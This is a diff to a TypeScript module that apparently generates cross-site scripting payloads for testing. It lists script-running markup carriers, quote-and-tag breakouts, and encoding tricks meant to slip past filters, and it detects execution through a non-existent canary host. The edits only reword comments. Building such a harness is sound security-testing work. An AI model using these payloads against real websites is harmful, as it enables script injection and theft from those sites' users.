@@ -1,9 +1,9 @@
 /** What a payload calls when a browser runs it: `HOOK(7)` names the seventh. */
 export const HOOK = "_x";
-/** Nobody's address: a request to it is a payload that got out. */
+/** A host that does not exist: a request to it was made by a payload. */
 export const CANARY = "canario.invalid";
 
-/** Markup that runs something as soon as it is in a page, or as somebody presses on it. */
+/** Markup that runs a script as soon as it is in a page, or when it is pressed. */
 const CARRIERS: readonly ((run: string) => string)[] = [
   (run) => `<script>${run}</script>`,
   (run) => `<img src=x onerror=${run}>`,
@@ -34,7 +34,7 @@ const CARRIERS: readonly ((run: string) => string)[] = [
   (run) => `<base href=//${CANARY}/${run}>`,
 ];
 
-/** How one leaves the place that a careless page puts the text into. */
+/** Prefixes and suffixes that end the context into which a page inserts unescaped text. */
 const BREAKOUTS: readonly ((markup: string) => string)[] = [
   (markup) => `">${markup}`,
   (markup) => `'>${markup}`,
@@ -48,7 +48,7 @@ const BREAKOUTS: readonly ((markup: string) => string)[] = [
 const entities = (text: string, write: (code: number) => string): string =>
   text.replace(/[<>"'=()]/g, (letter) => write(letter.charCodeAt(0)));
 
-/** Writings that one reader takes for something else than another. */
+/** Encodings that parsers interpret differently. */
 const DISGUISES: readonly ((markup: string) => string)[] = [
   (markup) => markup.replace(/<(\w)(\w*)/g, (_, first, rest) => `<${first.toUpperCase()}${rest}`),
   (markup) => markup.replace(/<(\w+) /, "<$1/"),
